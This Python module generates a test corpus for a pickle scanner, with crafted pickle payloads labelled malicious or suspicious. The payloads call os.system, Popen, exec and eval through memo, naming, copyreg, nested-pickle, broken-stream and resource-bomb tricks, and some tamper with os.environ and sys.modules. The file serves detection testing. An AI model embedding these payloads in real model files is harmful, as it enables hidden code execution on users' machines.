"""Tricks of the pickle machine: ways to name, build, hide and order a call that readers of opcodes have missed."""

import base64
import pickle
import struct
import zlib

from pickle_code import Code, build, call, const, name, payload, pickled, reduce, shell, short_text, text, then

ECHO = const(("echo weighbridge",))
RUN = ECHO + b"R"
SYSTEM = name("os", "system")


def make(cases):
    family = cases.family("opcode")
    for table in (memo(), naming(), calling(), attributes(), containers(), nested(), streams(), gettings()):
        for case, data, note in table:
            family.malicious(case, "model.pkl", data, note)
    for case, data, note in anomalies():
        family.suspicious(case, "model.pkl", data, note)


def two(body):
    return b"\x80\x02" + body + b"."


def four(body):
    return b"\x80\x04" + body + b"."


def memo():
    """Where the memo and the stack say something else than the opcode before."""
    os_, system = short_text("os"), short_text("system")
    decoy = short_text("collections") + b"\x940" + short_text("OrderedDict") + b"\x940"
    return [
        ("memo-put-after-pop", four(os_ + short_text("x") + b"0q\x000" + system + b"q\x010h\0h\x01\x93" + RUN), "PUT stores the top of the stack after a POP, not the last constant"),
        ("memo-memoize-and-put", four(decoy + os_ + b"q\x000" + system + b"q\x010h\0h\x01\x93" + RUN), "MEMOIZE and PUT mixed: the later store wins"),
        ("memo-overwrite", four(short_text("collections") + b"q\x050" + os_ + b"q\x050h\x05" + system + b"\x93" + RUN), "a memo number used twice"),
        ("memo-long-put", four(os_ + b"r\x00\x00\x01\x000" + system + b"r\x01\x00\x01\x000j\x00\x00\x01\x00j\x01\x00\x01\x00\x93" + RUN), "memo numbers of four bytes"),
        ("memo-text-put", four(os_ + b"p007\n0" + system + b"p 8\n0g7\ng8\n\x93" + RUN), "memo numbers as text with zeros and blanks"),
        ("memo-memoize-argument", four(os_ + b"\x940" + system + b"\x940h\0h\x01\x93" + RUN), "names only through MEMOIZE"),
        ("memo-after-gap", four(os_ + b"q\x090" + system + b"\x940h\x09h\x01\x93" + RUN), "MEMOIZE counts entries, not the highest number"),
        ("memo-dup", four(os_ + b"2q\x0000" + system + b"q\x010h\0h\x01\x93" + RUN), "PUT after DUP"),
        ("memo-mark", four(os_ + b"(0q\x000" + system + b"q\x010h\0h\x01\x93" + RUN), "POP takes the mark, so PUT stores what lies below"),
        ("memo-pop-mark", four(os_ + b"(" + short_text("json") + short_text("x") + b"1q\x000" + system + b"q\x010h\0h\x01\x93" + RUN), "POP_MARK removes the decoys"),
        ("memo-callable", four(SYSTEM + b"q\x000" + name("collections", "OrderedDict") + b"0h\0" + RUN), "the callable itself comes from the memo"),
        ("memo-arguments-first", two(ECHO + b"q\x000" + SYSTEM + b"h\0R"), "the arguments come from the memo"),
        ("memo-in-list", two(b"]" + SYSTEM + b"q\x01a0h\x01" + RUN), "the callable is memoised inside a list that is thrown away"),
        ("memo-tuple-of-memo", two(SYSTEM + b"q\x010" + text("echo") + b"q\x02\x85q\x030h\x01h\x03R"), "every part of the call from the memo"),
    ]


def naming():
    """Ways to say which global."""
    joined = call("builtins", "str.join", "", ["o", "s"], form="stack")
    return [
        ("name-computed-join", four(joined + short_text("system") + b"\x93" + RUN), "the module's name is the result of str.join"),
        ("name-computed-replace", four(short_text("os") + call("builtins", "str.replace", "sysxtem", "x", "", form="stack") + b"\x93" + RUN), "the name is the result of str.replace"),
        ("name-computed-decode", four(call("builtins", "bytes.decode", b"os", form="stack") + short_text("system") + b"\x93" + RUN), "the module's name is decoded from bytes"),
        ("name-computed-codecs", four(call("_codecs", "decode", b"6f73", "hex") + short_text("system") + b"\x93" + RUN), "the module's name through a codec"),
        ("name-computed-item", four(call("operator", "getitem", ["json", "os"], 1) + short_text("system") + b"\x93" + RUN), "the module's name out of a list"),
        ("name-dotted", four(short_text("os") + short_text("path.os.system") + b"\x93" + RUN), "a dotted name hops over os.path"),
        ("name-dotted-re-export", four(short_text("collections") + short_text("abc.sys.modules.get") + b"\x93" + const(("os",)) + b"R"), "a dotted name hops from an allowed module to sys.modules"),
        ("name-dotted-numpy", four(short_text("numpy") + short_text("lib.format.os.system") + b"\x93" + RUN), "a dotted name hops through numpy"),
        ("name-dotted-class", four(short_text("collections") + short_text("OrderedDict.__init__.__globals__") + b"\x93."), "a dotted name reaches the globals of a method"),
        ("name-dotted-dunder", four(short_text("builtins") + short_text("object.__subclasses__") + b"\x93)R"), "all subclasses of object"),
        ("name-dotted-global", b"\x80\x04cos\npath.os.system\n" + RUN + b".", "the dotted form in a GLOBAL of protocol 4"),
        ("name-dotted-datetime", four(short_text("datetime") + short_text("sys.modules.__getitem__") + b"\x93" + const(("os",)) + b"R"), "sys.modules through datetime"),
        ("name-dotted-unknown-then-os", four(short_text("sklearn") + short_text("utils.os.popen") + b"\x93" + RUN), "os through sklearn.utils"),
        ("name-carriage-return", b"\x80\x02cos\r\nsystem\r\n" + RUN + b".", "lines that end with CR LF: some readers strip it"),
        ("name-blank", b"\x80\x02c os\nsystem \n" + RUN + b"0" + shell() + b".", "names with blanks, and a plain call after them"),
        ("name-unicode-escape", b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93" + RUN + b".", "names written with unicode escapes"),
        ("name-string-escape", b"\x80\x04S'\\x6f\\x73'\nS'\\x73ystem'\n\x93" + RUN + b".", "names written with hex escapes in a STRING"),
        ("name-string-octal", b"\x80\x04S\"\\157s\"\nS'\\163ystem'\n\x93" + RUN + b".", "names written with octal escapes"),
        ("name-short-binstring", b"\x80\x04U\x02osU\x06system\x93" + RUN + b".", "names as byte strings of Python 2"),
        ("name-binstring", b"\x80\x04T\x02\0\0\0osT\x06\0\0\0system\x93" + RUN + b".", "names as long byte strings of Python 2"),
        ("name-wide", b"\x80\x04\x8d\x02\0\0\0\0\0\0\0os" + text("system") + b"\x93" + RUN + b".", "names as texts of eight-byte length"),
        ("name-full-width", four(short_text("os") + short_text("ｓｙｓｔｅｍ") + b"\x93" + RUN + b"0" + shell("stack")), "a name in full-width letters beside the plain one"),
        ("name-zero-width", four(short_text("o\u200bs") + short_text("system") + b"\x93" + RUN + b"0" + shell("stack")), "a name with a zero-width blank beside the plain one"),
        ("name-python2", two(name("__builtin__", "eval") + const(("1",)) + b"R"), "a name of Python 2 that is mapped"),
        ("name-python2-commands", two(name("commands", "getoutput") + RUN), "commands.getoutput becomes subprocess.getoutput"),
        ("name-python2-urllib", two(name("urllib2", "urlopen") + const(("http://127.0.0.1/",)) + b"R"), "urllib2 becomes urllib.request"),
        ("name-python2-anydbm", two(name("anydbm", "open") + const(("/tmp/a", "c")) + b"R"), "anydbm becomes dbm"),
        ("name-python2-itertools", two(name("itertools", "imap") + Code(b"(" + SYSTEM + const(["true"]) + b"t") + b"R"), "itertools.imap becomes builtins.map"),
        ("name-no-mapping-4", four(name("builtins", "eval") + const(("1",)) + b"R"), "a GLOBAL under protocol 4"),
        ("name-high-protocol", b"\x80\x05" + shell("stack") + b".", "protocol 5"),
        ("name-future-protocol", b"\x80\x02" + shell() + b"\x80\x63.", "a protocol that does not exist, said after the call"),
        ("name-alias", two(call("posixpath", "os.system", "echo", form="stack")), "os under another module's name"),
        ("name-alias-ntpath", four(call("ntpath", "os.system", "echo", form="stack")), "os through ntpath"),
        ("name-alias-builtins", four(call("io", "builtins.eval", "1", form="stack")), "builtins through io"),
        ("name-alias-shutil", four(call("glob", "os.system", "echo", form="stack")), "os through glob"),
    ]


def calling():
    """Every opcode that calls."""
    key = struct.pack("<I", 12345678)
    registered = call("copyreg", "add_extension", "os", "system", 200)
    return [
        ("call-inst", two(call("os", "system", "echo", form="inst")), "INST"),
        ("call-obj", two(call("os", "system", "echo", form="obj")), "OBJ"),
        ("call-obj-pty", two(call("pty", "spawn", "true", form="obj") + b"0N"), "GHSA-r7v6-mfhq-g3m2: OBJ whose result is thrown away"),
        ("call-newobj", two(call("subprocess", "Popen", ["true"], form="newobj")), "NEWOBJ"),
        ("call-newobj-ex", four(call("subprocess", "Popen", ["true"], form="newobj_ex")), "NEWOBJ_EX"),
        ("call-newobj-ex-keywords", four(Code(name("subprocess", "Popen", "stack") + b")" + const({"args": "true", "shell": True}) + b"\x92")), "NEWOBJ_EX with the payload among the keywords"),
        ("call-inst-python2", b"(S'echo'\nios\nsystem\n.", "INST in protocol 0"),
        ("call-text-only", b"cos\nsystem\n(S'echo weighbridge'\ntR.", "protocol 0 as everybody writes it"),
        ("call-result-build", two(Code(shell() + b"}b")), "GHSA-mhc9-48gj-9gp3: REDUCE and BUILD hide an unused result"),
        ("call-result-pop", two(Code(shell() + b"0N")), "the result is thrown away"),
        ("call-in-tuple-dropped", two(Code(b"(" + shell() + b"1N")), "the call inside a mark that is thrown away"),
        ("call-in-key", two(const({"a": 1}) + b"0" + Code(b"}(" + shell() + const(1) + b"u")), "the call makes a key"),
        ("call-in-arguments", two(call("collections", "OrderedDict", [[shell(), 1]])), "the call hides among the arguments of an allowed class"),
        ("call-extension-1", two(then(registered, Code(b"\x82\xc8" + RUN))), "copyreg.add_extension, then EXT1"),
        ("call-extension-2", two(then(call("copyreg", "add_extension", "os", "system", 40000), Code(b"\x83" + struct.pack("<H", 40000) + RUN))), "copyreg.add_extension, then EXT2"),
        ("call-extension-4", two(then(call("copyreg", "add_extension", "os", "system", 12345678), Code(b"\x84" + key + RUN))), "copyreg.add_extension, then EXT4"),
        ("call-extension-py2", two(then(call("copy_reg", "add_extension", "os", "system", 7), Code(b"\x82\x07" + RUN))), "copy_reg, as Python 2 called it"),
        ("call-reconstructor", two(call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), None)), "copyreg._reconstructor with a class that runs"),
        ("call-newobj-function", two(call("copyreg", "__newobj__", name("subprocess", "Popen"), ["true"])), "copyreg.__newobj__ as a function"),
        ("call-dispatch-table", two(call("copyreg", "pickle", name("builtins", "int"), SYSTEM)), "copyreg.pickle changes how integers pickle from now on"),
        ("call-partial", two(reduce(call("functools", "partial", SYSTEM), "echo")), "functools.partial, then a call of it"),
        ("call-map-list", two(call("builtins", "list", call("builtins", "map", SYSTEM, ["echo"]))), "map, drawn by list"),
        ("call-map-bytes", two(call("builtins", "bytes", call("builtins", "map", name("os", "system"), ["echo"]), form="newobj")), "map, drawn by bytes"),
        ("call-reduce-function", two(call("functools", "reduce", name("builtins", "getattr"), [name("os", "path"), "os", "system"])), "functools.reduce walks attributes"),
        ("call-attrgetter", two(Code(reduce(call("operator", "attrgetter", "system"), Code(name("posix", "system"))))), "attrgetter made and called"),
        ("call-methodcaller", two(Code(reduce(call("operator", "methodcaller", "system", "echo"), call("importlib", "import_module", "os")))), "methodcaller on an imported module"),
        ("call-operator-alias", two(reduce(call("_operator", "attrgetter", "system"), call("builtins", "__import__", "os"))), "GHSA-955r-x9j8-7rhh: the alias _operator, and __import__"),
        ("call-defaultdict", two(reduce(call("builtins", "getattr", call("collections", "defaultdict", call("functools", "partial", SYSTEM, "echo")), "__missing__"), 1)), "a defaultdict whose factory runs"),
        ("call-iter", two(call("builtins", "next", call("builtins", "iter", call("functools", "partial", SYSTEM, "echo"), 1))), "iter with a callable"),
        ("call-sorted-key", two(call("builtins", "getattr", ["echo"], "sort") + const(()) + b"R0" + call("itertools", "accumulate", ["a", "b"], SYSTEM)), "itertools.accumulate with a function"),
        ("call-weakref", two(call("weakref", "finalize", call("collections", "OrderedDict"), SYSTEM, "echo")), "weakref.finalize runs when the object goes"),
        ("call-contextlib", two(reduce(call("builtins", "getattr", call("contextlib", "ExitStack"), "callback"), SYSTEM, "echo")), "an ExitStack's callback"),
    ]


def attributes():
    """What BUILD and SETITEM can change."""
    plain = call("collections", "OrderedDict")
    model = call("sklearn.linear_model._logistic", "LogisticRegression", form="newobj")
    transformer = call("sklearn.preprocessing._function_transformer", "FunctionTransformer", form="newobj")
    return [
        ("build-setstate", two(Code(build(build(model, {"__setstate__": SYSTEM}), "echo"))), "BUILD plants __setstate__, a second BUILD calls it"),
        ("build-slots", two(Code(plain + b"N" + const({"__setstate__": SYSTEM}) + b"\x86b" + const("echo") + b"b")), "the same through the slot state"),
        ("build-method", two(build(model, {"predict": SYSTEM})), "BUILD replaces predict by os.system"),
        ("build-class", two(build(model, {"__class__": name("subprocess", "Popen")})), "BUILD changes the class"),
        ("build-reduce", two(build(model, {"__reduce_ex__": SYSTEM})), "BUILD plants __reduce_ex__"),
        ("build-on-class", two(Code(name("sklearn.linear_model._logistic", "LogisticRegression") + const({"predict": name("builtins", "eval")}) + b"b")), "BUILD on the class itself"),
        ("build-on-module-global", two(Code(name("collections", "OrderedDict") + b"N" + const({"update": SYSTEM}) + b"\x86b")), "BUILD sets an attribute of an allowed class for the whole process"),
        ("build-function-transformer", two(build(transformer, {"func": SYSTEM, "validate": False})), "FunctionTransformer with os.system: it runs when the model is used"),
        ("build-function-exec", four(build(transformer, {"func": name("builtins", "exec"), "kw_args": {"globals": {}}})), "FunctionTransformer with exec"),
        ("build-tokenizer", two(build(call("sklearn.feature_extraction.text", "TfidfVectorizer", form="newobj"), {"tokenizer": name("builtins", "eval"), "vocabulary_": {}})), "a vectorizer whose tokenizer is eval"),
        ("build-scorer", two(build(call("sklearn.model_selection._search", "GridSearchCV", form="newobj"), {"scoring": SYSTEM, "refit": SYSTEM})), "a search whose scoring is os.system"),
        ("build-metric", two(build(call("sklearn.neighbors._classification", "KNeighborsClassifier", form="newobj"), {"metric": SYSTEM, "effective_metric_": SYSTEM})), "a metric that is os.system"),
        ("build-partial", two(build(call("functools", "partial", name("builtins", "len")), (SYSTEM, ("echo",), {}, None))), "BUILD swaps the function of a partial"),
        ("build-nested-state", two(build(model, {"a": [{"b": ({"c": SYSTEM},)}]})), "a function deep in the state"),
        ("setitem-sys-modules", two(Code(name("sys", "modules") + const("json") + name("os", "path") + b"s")), "SETITEM on sys.modules"),
        ("setitem-environ", two(Code(name("os", "environ") + const("LD_PRELOAD") + const("/tmp/x.so") + b"s")), "SETITEM on os.environ"),
        ("setitems-environ", two(Code(name("os", "environ") + b"(" + const("PATH") + const("/tmp") + b"u")), "SETITEMS on os.environ"),
        ("append-sys-path", two(Code(name("sys", "path") + const("/tmp") + b"a")), "APPEND on sys.path"),
        ("append-meta-path", two(Code(name("sys", "meta_path") + const(1) + b"a")), "APPEND on sys.meta_path"),
        ("append-path-hooks", four(Code(name("sys", "path_hooks", "stack") + b"(" + SYSTEM + b"e")), "APPENDS on sys.path_hooks"),
        ("append-builtin", two(Code(call("builtins", "__import__", "os") + const("x") + b"a")), "APPEND calls a method of a module"),
        ("additems-foreign", four(Code(name("warnings", "filters", "stack") + b"(" + const("a") + b"\x90")), "ADDITEMS on a foreign list"),
        ("setitem-dispatch", two(Code(name("copyreg", "dispatch_table") + name("builtins", "int") + SYSTEM + b"s")), "SETITEM on copyreg's table"),
        ("setitem-builtins", two(Code(call("builtins", "vars", name("builtins", "eval")) + const("a") + const(1) + b"s")), "SETITEM on what vars gives"),
    ]


def gettings():
    """getattr and its relatives."""
    get = lambda *args: call("builtins", "getattr", *args)
    base = get(get(name("builtins", "object"), "__subclasses__"), "__self__")
    return [
        ("get-chain", two(reduce(get(call("builtins", "__import__", "os"), "system"), "echo")), "__import__, getattr, call"),
        ("get-globals", two(get(get(name("collections", "namedtuple"), "__globals__"), "get")), "the globals of a function of an allowed module"),
        ("get-subclasses", two(reduce(get(base, "__subclasses__"))), "the subclasses of object"),
        ("get-builtins-dict", two(call("operator", "getitem", get(name("collections", "namedtuple"), "__builtins__"), "eval")), "__builtins__ by item"),
        ("get-dunder-call", two(reduce(get(SYSTEM, "__call__"), "echo")), "os.system.__call__"),
        ("get-loader", two(reduce(get(get(name("collections", "abc"), "__loader__"), "load_module"), "os")), "a module's own loader loads another"),
        ("get-spec", two(get(get(name("collections", "abc"), "__spec__"), "loader")), "a module's spec"),
        ("get-mro", two(call("operator", "getitem", get(name("builtins", "str"), "__mro__"), 1)), "object through the order of bases"),
        ("get-code", two(get(get(name("json", "loads"), "__code__"), "replace")), "a function's code object"),
        ("get-frame", two(get(call("sys", "_getframe"), "f_globals")), "the caller's frame"),
        ("get-vars", two(reduce(call("operator", "itemgetter", "system"), call("builtins", "vars", call("builtins", "__import__", "os")))), "itemgetter on vars"),
        ("get-object-new", two(get(name("builtins", "type"), "__call__")), "type.__call__"),
        ("get-setattr", two(call("builtins", "setattr", name("json", "loads"), "__code__", 1)), "setattr on a function"),
        ("get-delattr", two(call("builtins", "delattr", name("builtins", "print"), "x")), "delattr"),
        ("get-type-three", two(reduce(call("builtins", "type", "A", (), {"__init__": SYSTEM}))), "a class made by type with os.system as its constructor"),
        ("get-globals-builtin", two(call("builtins", "globals")), "globals() of whoever loads"),
        ("get-lambda-code", two(call("types", "FunctionType", call("marshal", "loads", b"c\0\0\0"), call("builtins", "globals"))), "a function from marshalled code"),
    ]


def containers():
    """The payload where only a walk over all values finds it."""
    deep = shell()
    for _ in range(300):
        deep = const([deep])
    wide = const({str(n): n for n in range(5000)} | {"x": shell()})
    return [
        ("place-deep", two(deep), "three hundred lists deep"),
        ("place-wide", two(wide), "the last of five thousand values"),
        ("place-frozenset", four(Code(b"(" + const(1) + shell("stack") + b"\x91")), "inside a frozenset"),
        ("place-set", four(Code(b"\x8f(" + shell("stack") + b"\x90")), "inside a set"),
        ("place-tuple2", two(Code(const(1) + shell() + b"\x86")), "inside TUPLE2"),
        ("place-after-big", two(Code(const([bytes(200000)]) + b"0" + shell())), "after two hundred kilobytes of zeros"),
        ("place-far", two(then(*[const("padding " * 20)] * 3000, shell())), "after three thousand texts that are thrown away"),
        ("place-pid", two(Code(shell() + b"Q")), "the persistent id itself is a call"),
        ("place-state-dict", two(build(call("sklearn.svm._classes", "SVC", form="newobj"), {"C": 1.0, "kernel": shell()})), "among an estimator's parameters"),
        ("place-object-array", four(build(call("numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), (0,), b"b"), (1, (1,), call("numpy", "dtype", "O8", False, True), False, [shell()]))), "an element of an object array"),
        ("place-pandas", four(call("pandas._libs.internals", "_unpickle_block", shell(), 1, 2)), "an argument of a pandas block"),
        ("place-cycle", two(Code(b"]q\0(h\0" + shell() + b"e")), "in a list that holds itself"),
    ]


def nested():
    """A pickle inside a pickle, and other second stages."""
    inner = payload()
    squeezed = base64.b64encode(zlib.compress(inner)).decode()
    return [
        ("nested-loads", two(call("pickle", "loads", inner)), "pickle.loads of bytes"),
        ("nested-c-loads", two(call("_pickle", "loads", inner)), "_pickle.loads of bytes"),
        ("nested-numpy-loads", two(call("numpy.core._pickle", "loads", inner)), "a re-exported loads"),
        ("nested-joblib", two(call("joblib.numpy_pickle", "load", call("io", "BytesIO", inner))), "joblib.load of bytes"),
        ("nested-pandas", two(call("pandas.io.pickle", "read_pickle", call("io", "BytesIO", inner))), "read_pickle of bytes"),
        ("nested-unpickler", two(reduce(call("builtins", "getattr", call("pickle", "Unpickler", call("io", "BytesIO", inner)), "load"))), "an Unpickler and its load"),
        ("nested-twice", two(call("pickle", "loads", pickled(call("pickle", "loads", inner)))), "two pickles deep"),
        ("nested-compressed", two(call("pickle", "loads", call("zlib", "decompress", call("base64", "b64decode", squeezed)))), "decoded, inflated, loaded"),
        ("nested-hex", two(call("pickle", "loads", call("binascii", "unhexlify", inner.hex()))), "from hex digits"),
        ("nested-latin", two(call("pickle", "loads", call("_codecs", "encode", inner.decode("latin-1"), "latin1"))), "through _codecs.encode, as protocol 2 writes bytes"),
        ("nested-bytearray", b"\x80\x05" + call("pickle", "loads", Code(b"\x96" + struct.pack("<Q", len(inner)) + inner), form="stack") + b".", "from a bytearray"),
        ("nested-exec-base64", two(call("builtins", "exec", call("base64", "b64decode", base64.b64encode(b"print(1)").decode()))), "exec of decoded source"),
        ("nested-eval-compile", two(call("builtins", "eval", call("builtins", "compile", "1+1", "a", "eval"))), "compile, then eval"),
        ("nested-marshal", two(call("builtins", "exec", call("marshal", "loads", b"c\0\0\0\0"))), "exec of marshalled code"),
        ("nested-state-bytes", two(build(call("torch.storage", "UntypedStorage", form="newobj"), {"cached": inner}) + b"0" + call("torch.storage", "_load_from_bytes", inner)), "bytes that torch loads again"),
        ("nested-lzma", two(call("pickle", "loads", call("lzma", "decompress", b"\xfd7zXZ\0"))), "through lzma"),
    ]


def streams():
    """More than one pickle, frames that lie, and streams that break after they have run."""
    good = pickle.dumps({"weights": [1, 2, 3]}, 4)
    frame = lambda size: b"\x95" + struct.pack("<Q", size)
    return [
        ("stream-stacked", good + payload(), "a second pickle behind the first"),
        ("stream-third", good + good + payload(4), "a third pickle"),
        ("stream-broken", two(shell())[:-1] + b"\xff\xff", "nullifAI: the stream breaks after the call"),
        ("stream-broken-unknown", two(shell() + b"0") [:-1] + b"\xaa" * 8, "an opcode that does not exist after the call"),
        ("stream-cut", pickled(shell(), 4)[:-1], "no STOP"),
        ("stream-cut-in-text", two(shell())[:-1] + b"X\xff\0\0\0abc", "the file ends inside a text after the call"),
        ("stream-length-lie", two(shell())[:-1] + b"B\xff\xff\xff\xff", "a length beyond the file after the call"),
        ("stream-stack-underflow", two(shell())[:-1] + b"000000R.", "the stack is emptied after the call"),
        ("stream-bad-memo", two(shell())[:-1] + b"h\xff.", "an unknown memo number after the call"),
        ("stream-trailing-zeros", good + bytes(4096) + payload(), "zeros between two pickles"),
        ("stream-trailing-text", good + b"\n\n# end of weights\n" + payload(0), "text between two pickles"),
        ("stream-frame-short", b"\x80\x04" + frame(1) + shell("stack") + b".", "a frame that is shorter than what follows"),
        ("stream-frame-long", b"\x80\x04" + frame(1 << 40) + shell("stack") + b".", "a frame longer than the file"),
        ("stream-frame-inside", b"\x80\x04" + frame(3) + b"N0" + frame(99) + shell("stack") + b".", "a frame in a frame"),
        ("stream-prefix-use", b"use \n" + payload() + payload(), "saferpickle: a first line which makes a reader call it text"),
        ("stream-prefix-newline", payload(0), "a bare protocol 0 file"),
        ("stream-prefix-comment", b"I0\n0" + payload(0), "an integer first, thrown away"),
        ("stream-comment-as-string", b"S'#!/usr/bin/env python\\n'\n0" + payload(0), "what looks like a script's first line is a string opcode"),
        ("stream-looks-like-json", b"}" + payload(0)[:-1] + b"0.", "the first byte is that of an empty dict and of JSON's end"),
        ("stream-pk78", b"PK\7\x08" + payload(), "saferpickle: the signature of a data descriptor in front"),
        ("stream-old-python", b"(dp0\nS'a'\np1\n" + shell() + b"s.", "protocol 0 as Python 2 wrote it, with a call"),
        ("stream-long-comment", pickled(then(const("x" * 70000), shell()), 2), "a long text first, so that a prefix shows nothing"),
        ("stream-200k-memo", b"\x80\x02" + b"".join(b"Nr" + struct.pack("<I", n) + b"0" for n in range(200000)) + shell() + b".", "two hundred thousand memo entries before the call"),
    ]


def anomalies():
    """Odd, exhausting or unclear, and no payload that we can name."""
    bomb = b"\x80\x02](" + const("lol") * 2 + b"e" + b"".join(b"q" + bytes([n]) + b"0](" + (b"h" + bytes([n])) * 10 + b"e" for n in range(30)) + b"."
    return [
        ("odd-billion-laughs", bomb, "lists of lists, ten times thirty deep by reference"),
        ("odd-tuple-bomb", b"\x80\x02)" + b"2\x86" * 100 + b".", "a tuple of two of itself, a hundred times"),
        ("odd-hash-bomb", b"\x80\x02)" + b"2\x86" * 60 + b"q\0}h\0K\x01s.", "the same as a key, whose hash never ends"),
        ("odd-huge-long", b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(16) + b".", "an integer of two gigabytes"),
        ("odd-negative-long", b"\x80\x02\x8b\xff\xff\xff\xff.", "an integer of negative length"),
        ("odd-bytearray-size", two(call("builtins", "bytearray", 1 << 40)), "a bytearray of a terabyte"),
        ("odd-text-int", b"I" + b"9" * 100000 + b"\n.", "an integer of a hundred thousand digits"),
        ("odd-persid-text", b"Psome-object\n.", "a persistent id outside torch"),
        ("odd-binpersid", two(Code(const(("module", "x")) + b"Q")), "a persistent tuple outside torch"),
        ("odd-extension-unknown", two(Code(b"\x82\x20)R")), "an extension code that nobody registered here"),
        ("odd-buffer", b"\x80\x05\x97.", "an out-of-band buffer"),
        ("odd-unclear-name", four(Code(call("builtins", "str", 5) + short_text("thing") + b"\x93")), "a module's name that is the result of a call"),
        ("odd-memo-index", b"\x80\x02Nr\xff\xff\xff\x7f0jff\xff\x7f.", "a memo number of two billion, and another that is not there"),
        ("odd-trailing-junk", pickle.dumps([1], 4) + b"\x80\x04\x95garbage", "bytes behind the pickle that begin like one"),
        ("odd-cut", pickle.dumps({"a": list(range(100))}, 4)[:50], "a pickle without its end"),
        ("odd-deep", b"\x80\x02" + b"]" * 100000 + b"a" * 99999 + b".", "a hundred thousand lists in one another"),
        ("odd-marks", b"\x80\x02" + b"(" * 100000 + b"1" * 100000 + b"N.", "a hundred thousand marks"),
        ("odd-np-alloc", two(call("numpy", "zeros", (1 << 40,))), "an array of a terabyte"),
        ("odd-range-list", two(call("builtins", "list", call("builtins", "range", 1 << 40))), "a list of a trillion numbers"),
        ("odd-repeat", two(call("operator", "mul", "a", 1 << 40)), "a text of a terabyte"),
    ]
